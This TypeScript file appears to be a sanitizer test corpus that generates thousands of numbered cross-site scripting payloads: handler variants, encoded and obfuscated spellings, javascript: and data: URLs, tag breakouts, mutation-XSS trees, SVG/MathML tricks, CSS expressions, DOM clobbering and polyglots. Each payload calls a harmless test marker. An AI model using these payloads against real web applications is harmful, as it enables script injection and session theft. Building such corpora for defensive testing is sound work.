/** HTML that tries to run `top.hit(number)`, made from classes: tags, handlers, encodings, contexts, foreign content. */
export interface Payload {
  number: number
  kind: string
  html: string
}

type Writer = (code: string) => string

/** Every payload of the corpus, always the same ones under the same numbers. */
export function scriptPayloads(): Payload[] {
  const kinds: Record<string, Writer[]> = {
    handlers: handlers(),
    'handler spellings': spellings(),
    'script elements': scripts(),
    addresses: addresses(),
    breakouts: breakouts(),
    mutations: mutations(),
    'svg and math': foreign(),
    frames: frames(),
    styles: styles(),
    'meta and base': metas(),
    forms: forms(),
    'templates and names': templates(),
    'dangling markup': dangling(),
    polyglots: polyglots(),
  }
  return Object.entries(kinds)
    .flatMap(([kind, writers]) => writers.map((write) => ({ kind, write })))
    .map(({ kind, write }, number) => ({ number, kind, html: write(`top.hit(${number})`) }))
}

const TAGS = [
  'a',
  'abbr',
  'article',
  'audio src=x',
  'b',
  'blockquote',
  'body',
  'button',
  'canvas',
  'center',
  'details open',
  'dialog open',
  'div',
  'embed src=x',
  'fieldset',
  'font',
  'form',
  'frameset',
  'h1',
  'html',
  'iframe',
  'image src=x',
  'img src=x',
  'input',
  'input type=image src=x',
  'keygen',
  'label',
  'li',
  'link rel=stylesheet href=x',
  'marquee',
  'menu',
  'meter',
  'noscript',
  'object data=x',
  'ol',
  'option',
  'p',
  'picture',
  'pre',
  'q',
  'script src=x',
  'section',
  'select',
  'slot',
  'span',
  'style',
  'svg',
  'math',
  'table',
  'td',
  'template',
  'textarea',
  'track',
  'tr',
  'tt',
  'u',
  'ul',
  'video src=x',
  'video',
  'xss',
  'x-element is=img',
] // prettier-ignore
const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onblur',
  'onmouseover',
  'onpointerenter',
  'ontoggle',
  'onbeforetoggle',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'onscroll',
  'onscrollend',
  'onstart',
  'onbegin',
  'onplay',
  'onloadstart',
  'onresize',
  'onpageshow',
  'onhashchange',
  'onpopstate',
  'onmessage',
  'onbeforeprint',
  'oncopy',
  'onpaste',
  'oninput',
  'onsubmit',
  'onkeydown',
  'onwheel',
  'ondrag',
  'oncontentvisibilityautostatechange',
  'onsecuritypolicyviolation',
  'onslotchange',
  'onafterscriptexecute',
  'onunhandledrejection',
] // prettier-ignore

function handlers(): Writer[] {
  const help = 'autofocus tabindex=1 contenteditable style=animation-name:x'
  return TAGS.flatMap((tag) =>
    HANDLERS.map(
      (handler): Writer =>
        (code) =>
          `<${tag} ${handler}=${code} ${help}>x`,
    ),
  )
}

/** The same handler, written as parsers still understand it and filters may not. */
function spellings(): Writer[] {
  const between = [' ', '/', '\t', '\n', '\f', '//', ' / ', '\u00a0', ' x=y ']
  const names = [
    'onerror',
    'ONERROR',
    'oNeRrOr',
    'onerror\n',
    'onerror\t',
    'onerror\u000b',
    '\u0000onerror',
    'on\u0000error',
  ]
  const quotes = ['', '"', "'", '`']
  return between.flatMap((gap) =>
    names.flatMap((name) =>
      quotes.map(
        (quote, place): Writer =>
          (code) => {
            const encoded = ENCODINGS[(place + name.length) % ENCODINGS.length]?.(code) ?? code
            return `<img${gap}src=x${gap}${name}=${quote}${encoded}${quote}>`
          },
      ),
    ),
  )
}

const entities =
  (form: (point: number) => string): Writer =>
  (code) =>
    [...code].map((each) => form(each.codePointAt(0) ?? 0)).join('')

const ENCODINGS: Writer[] = [
  (code) => code,
  entities((point) => `&#${point};`),
  entities((point) => `&#x${point.toString(16)};`),
  entities((point) => `&#0000${point}`),
  (code) => code.replace('(', '&lpar;').replace(')', '&rpar;').replace('.', '&period;'),
  (code) => code.replace('top', 't\\u006fp'),
  (code) => `&#32;&Tab;&NewLine;${code}`,
]

function scripts(): Writer[] {
  const opens = [
    '<script>',
    '<SCRIPT>',
    '<script/x>',
    '<script\n>',
    '<script\t type=text/javascript>',
    '<script type=module>',
    '<script ~~~>',
    '<scr<script>ipt>',
    '<script\u0000>',
    '<\u0000script>',
    '<svg><script>',
    '<math><script>',
    '<script async defer>',
    '<script language=vbscript>',
    '<script type="text/ecmascript">',
    '<noscript><script>',
    '<template><script>',
    '<xmp><script>',
    '<p><script>',
    '<table><script>',
    '<select><script>',
    '<svg><style><script>',
    '<svg><desc><script>',
    '<![CDATA[<script>',
  ] // prettier-ignore
  const ends = ['</script>', '</SCRIPT >', '</script/x>', '</script\n>', '']
  const written = opens.flatMap((open) =>
    ends.map(
      (end): Writer =>
        (code) =>
          `${open}${code}//${end}`,
    ),
  )
  const loaded = ['src', 'xlink:href', 'href', 'data-src', 'SRC'].flatMap((name) => [
    (code: string) => `<script ${name}="data:text/javascript,${code}"></script>`,
    (code: string) => `<svg><script ${name}="data:text/javascript,${code}"/></svg>`,
    (code: string) => `<script type=module ${name}='data:text/javascript;base64,${btoa(code)}'></script>`,
  ])
  return [...written, ...loaded]
}

const ADDRESSED = [
  'a href',
  'area href',
  'form action',
  'button formaction',
  'input type=submit formaction',
  'input type=image formaction',
  'iframe src',
  'frame src',
  'object data',
  'embed src',
  'base href',
  'link rel=import href',
  'link rel=stylesheet href',
  'img src',
  'img srcset',
  'img dynsrc',
  'img lowsrc',
  'image xlink:href',
  'video poster',
  'video src',
  'audio src',
  'source src',
  'track src',
  'body background',
  'table background',
  'td background',
  'isindex action',
  'q cite',
  'blockquote cite',
  'bgsound src',
  'applet code',
  'param value',
  'portal src',
  'fencedframe src',
  'a ping',
  'svg xmlns',
  'math href',
  'math xlink:href',
  'meta http-equiv=refresh content',
  'html manifest',
] // prettier-ignore

function addresses(): Writer[] {
  const forms: Writer[] = [
    (code) => `javascript:${code}`,
    (code) => `JaVaScRiPt:${code}`,
    (code) => `java\tscript:${code}`,
    (code) => `java\nscript:${code}`,
    (code) => `\u0001javascript:${code}`,
    (code) => ` \u0000javascript:${code}`,
    (code) => `&#106;avascript:${code}`,
    (code) => `javascript&colon;${code}`,
    (code) => `javas&Tab;cript:${code}`,
    (code) => `javascript&#x3A;${code}`,
    (code) => `javascript://%0a${code}`,
    (code) => `vbscript:${code}`,
    (code) => `data:text/html,<script>${code}</script>`,
    (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
    (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    (code) => `0;url=javascript:${code}`,
    (code) => `feed:javascript:${code}`,
    (code) => `cid:x" onerror="${code}`,
  ]
  return ADDRESSED.flatMap((place) =>
    forms.map(
      (form): Writer =>
        (code) =>
          `<${place}="${form(code)}">press</a>`,
    ),
  )
}

/** Elements whose content is read in another way, left early. */
function breakouts(): Writer[] {
  const around = [
    'title',
    'textarea',
    'style',
    'script',
    'noscript',
    'xmp',
    'iframe',
    'noembed',
    'noframes',
    'template',
    'select',
    'option',
    'plaintext',
    'listing',
    'svg',
    'math',
    'object',
    'audio',
    'video',
    'canvas',
  ] // prettier-ignore
  const image = (code: string) => `<img src=x onerror=${code}>`
  const inside: ((tag: string) => Writer)[] = [
    (tag) => (code) => `<${tag}></${tag}>${image(code)}`,
    (tag) => (code) => `<${tag}><!--</${tag}>${image(code)}-->`,
    (tag) => (code) => `<${tag}><a title="</${tag}>${image(code)}">`,
    (tag) => (code) => `<${tag}>&lt;/${tag}&gt;${image(code)}`,
    (tag) => (code) => `<${tag}/>${image(code)}`,
    (tag) => (code) => `<${tag}></${tag} >${image(code)}</${tag}>`,
    (tag) => (code) => `<${tag}><${tag}></${tag}>${image(code)}`,
    (tag) => (code) => `<a id="<${tag}>">${image(code)}</a></${tag}>`,
  ]
  const comments: Writer[] = [
    '<!-->',
    '<!--->',
    '<!-- --!>',
    '<!--- -->',
    '<!-',
    '<![CDATA[',
    '<?xml ',
    '</ ',
    '<!x ',
    '<%',
    '<!doctype x [',
    ']]>',
  ].map(
    (start): Writer =>
      (code) =>
        `${start}${image(code)}-->`,
  )
  return [...around.flatMap((tag) => inside.map((write) => write(tag))), ...comments]
}

/** Trees that become another tree when they are written out and read again. */
function mutations(): Writer[] {
  const roots = ['svg', 'math']
  const points = [
    'mtext',
    'mi',
    'ms',
    'annotation-xml encoding=text/html',
    'title',
    'desc',
    'foreignObject',
    'mglyph',
    'malignmark',
  ]
  const breakers = ['table', 'p', 'form', 'select', 'li', 'b', 'h1', 'dd', 'button']
  const raws = ['style', 'xmp', 'noscript', 'title', 'textarea', 'noembed', 'iframe']
  const crossed = roots.flatMap((root) =>
    points.flatMap((point) =>
      breakers.flatMap((breaker) =>
        raws.map(
          (raw): Writer =>
            (code) => {
              const payload = `<img src=x onerror=${code}>`
              return `<${root}><${point}><${breaker}><mglyph><${raw}><!--</${raw}>${payload}--><a title="</${raw}>${payload}">`
            },
        ),
      ),
    ),
  )
  const known: Writer[] = [
    (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
    (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    (code) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${code}>">`,
    (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    (code) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style></annotation-xml></math>`,
    (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    (code) => `<img alt="\`\`onerror=${code} x=">`,
    (code) => `<p style="font-family:'\\22\\3bx:expression(${code})'">`,
    (code) => `${'<div>'.repeat(510)}<svg><style><a title="</style><img src=x onerror=${code}>">`,
    (code) => `${'<form><div>'.repeat(120)}<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    (code) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
  ]
  return [...crossed, ...known]
}

function foreign(): Writer[] {
  const names = ['href', 'xlink:href', 'onload', 'from', 'begin']
  const animations = ['animate', 'set', 'animateTransform', 'animateMotion', 'discard']
  const animated = animations.flatMap((tag) =>
    names.flatMap((name): Writer[] => [
      (code) =>
        `<svg><a><${tag} attributeName=${name} values=javascript:${code} to=javascript:${code} /><text x=9 y=9>x</text></a></svg>`,
      (code) => `<svg><${tag} onbegin=${code} attributeName=${name} dur=1s></svg>`,
      (code) => `<svg><${tag} onend=${code} dur=1ms></svg>`,
    ]),
  )
  const others: Writer[] = [
    (code) => `<svg/onload=${code}>`,
    (code) => `<svg><svg/onload=${code}>`,
    (code) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${code}'/></svg>#x">`,
    (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>">`,
    (code) => `<svg><image href=x onerror=${code}>`,
    (code) => `<svg><handler type="text/javascript" ev:event=load>${code}</handler></svg>`,
    (code) => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${code}</x:script></svg>`,
    (code) => `<math><maction actiontype=statusline#http://x xlink:href=javascript:${code}>press</maction></math>`,
    (code) => `<math><mi xlink:href=javascript:${code}>press</mi></math>`,
    (code) => `<math href=javascript:${code}>press</math>`,
    (code) => `<svg><a href=javascript:${code}><rect width=99 height=99 /></a></svg>`,
    (code) => `<?xml-stylesheet href="javascript:${code}"?><svg/>`,
  ]
  return [...animated, ...others]
}

function frames(): Writer[] {
  const inner: Writer[] = [
    (code) => `<script>${code}</script>`,
    (code) => `<img src=x onerror=${code}>`,
    (code) => `<svg onload=${code}>`,
    (code) => `<body onload=${code}>`,
  ]
  return inner.flatMap((write): Writer[] => [
    (code) => `<iframe srcdoc="${write(code)}"></iframe>`,
    (code) => `<iframe srcdoc='${entities((point) => `&#${point};`)(write(code))}'></iframe>`,
    (code) => `<iframe src="data:text/html,${write(code)}"></iframe>`,
    (code) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${write(code)}"></iframe>`,
    (code) => `<object data="data:text/html,${write(code)}"></object>`,
    (code) => `<object type="text/html" data='data:text/html;base64,${btoa(write(code))}'></object>`,
    (code) => `<embed src="data:text/html,${write(code)}">`,
    (code) => `<frameset><frame src="data:text/html,${write(code)}"></frameset>`,
    (code) =>
      `<iframe src="about:blank" onload="contentDocument.write('${write(code).replaceAll("'", '')}')"></iframe>`,
  ])
}

function styles(): Writer[] {
  const values: Writer[] = [
    (code) => `width:expression(${code})`,
    (code) => `width:e/**/xpression(${code})`,
    (code) => `behavior:url(javascript:${code})`,
    (code) => `-moz-binding:url(data:text/xml,${code})`,
    (code) => `background:url(javascript:${code})`,
    (code) => `background:url("javascript:${code}")`,
    (code) => `background:u\\72l(javascript:${code})`,
    (code) => `list-style-image:url(javascript:${code})`,
    (code) => `content:url(data:image/svg+xml,<svg onload=${code}>)`,
  ]
  return values.flatMap((value): Writer[] => [
    (code) => `<div style="${value(code).replaceAll('"', "'")}">x</div>`,
    (code) => `<style>body{${value(code)}}</style>`,
    (code) => `<style>@import "javascript:${code}";</style><style>*{${value(code)}}</style>`,
    (code) => `<style><!--</style><div style='${value(code)}'></style><img src=x onerror=${code}>`,
    (code) => `<style>a{}</style/x><img src=x onerror=${code}>{${value(code)}}`,
    (code) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${code}>x</b>`,
    (code) => `<link rel=stylesheet href="data:text/css,*{${value(code).replaceAll('"', "'")}}">`,
  ])
}

function metas(): Writer[] {
  const contents: Writer[] = [
    (code) => `0;url=javascript:${code}`,
    (code) => `0; url='javascript:${code}'`,
    (code) => `0;url=data:text/html,<script>${code}</script>`,
    (code) => `0;url=data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  ]
  return [
    ...contents.flatMap((content): Writer[] => [
      (code) => `<meta http-equiv=refresh content="${content(code)}">`,
      (code) => `<META HTTP-EQUIV="Refresh" CONTENT="${content(code)}">`,
      (code) => `<head><meta http-equiv="refresh" content="${content(code)}"></head>`,
    ]),
    (code) => `<base href="javascript:/"><a href="#${code}">press</a><img src=x onerror=${code}>`,
    (code) => `<base href="data:text/javascript,${code}//"><script src="x"></script>`,
    (code) =>
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${code}</script>`,
    (code) => `<meta charset=utf-7>+ADw-script+AD4-${code}+ADw-/script+AD4-`,
    (code) =>
      `<meta charset=iso-2022-jp><img alt="\u001b$B"><b title="\u001b(B onerror=${code}>"><img src=x onerror=${code}>`,
  ]
}

function forms(): Writer[] {
  const triggers = [
    '<button>press</button>',
    '<input type=submit>',
    '<input type=image src=x>',
    '<input autofocus onfocus=this.form.submit()>',
  ]
  return triggers.flatMap((trigger): Writer[] => [
    (code) => `<form action="javascript:${code}">${trigger}</form>`,
    (code) => `<form id=f></form>${trigger.replace('>', ` form=f formaction="javascript:${code}">`)}`,
    (code) => `<form action=x onsubmit=${code}>${trigger}</form>`,
    (code) => `<form action="data:text/html,<script>${code}</script>" target=_self>${trigger}</form>`,
    (code) => `<isindex action="javascript:${code}" type=image>${trigger}`,
  ])
}

const NAMES = [
  'body',
  'head',
  'documentElement',
  'cookie',
  'createElement',
  'getElementById',
  'attributes',
  'parentNode',
  'nodeName',
  'firstChild',
  'removeChild',
  'setAttribute',
  'implementation',
  'defaultView',
  'location',
  'top',
  'DOMPurify',
  'ownerDocument',
] // prettier-ignore

function templates(): Writer[] {
  return [
    ...NAMES.flatMap((name): Writer[] => [
      (code) => `<form id=${name}><input name=${name}><input name=attributes></form><img src=x onerror=${code}>`,
      (code) => `<a id=${name}></a><a id=${name} name=x href="javascript:${code}">press</a>`,
      (code) => `<img name=${name}><form name=${name} onfocus=${code} tabindex=1 autofocus><input name=nodeName>`,
    ]),
    (code) => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
    (code) => `<template><template><img src=x onerror=${code}></template></template>`,
    (code) => `<div popover id=p onbeforetoggle=${code}>x</div><button popovertarget=p>press</button>`,
    (code) => `<a is=img src=x onerror=${code}>x</a>`,
    (code) => `<b accesskey=x onclick=${code} contenteditable>x</b>`,
  ]
}

function dangling(): Writer[] {
  const starts = [
    '<a href="',
    "<img src='",
    '<textarea>',
    '<button formaction="',
    '<select><option>',
    '<style>',
    '<title>',
    '<!--',
    '<p title="',
    '<base target="',
    '<plaintext>',
    '<iframe src="',
  ]
  return starts.map(
    (start): Writer =>
      (code) =>
        `<img src=x onerror=${code}>${start}<svg onload=${code}>`,
  )
}

function polyglots(): Writer[] {
  return [
    (code) => `"'>--></style></title></textarea></noscript></script><svg/onload=${code}><img src=x onerror='${code}'>`,
    (code) =>
      `javascript:/*--></title></style></textarea></script></xmp><svg/onload='/*"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
    (code) => `'">><marquee><img src=x onerror=${code}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${code}>`,
    (code) => `{{constructor.constructor('${code}')()}}<img src=x onerror=${code}>`,
    (code) => `\${${code}}#{${code}}<%=${code}%><img src=x onerror=${code}>`,
    (code) => `&lt;img src=x onerror=${code}&gt;`,
    (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
    (code) => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
    (code) => `＜script＞${code}＜/script＞`,
  ]
}
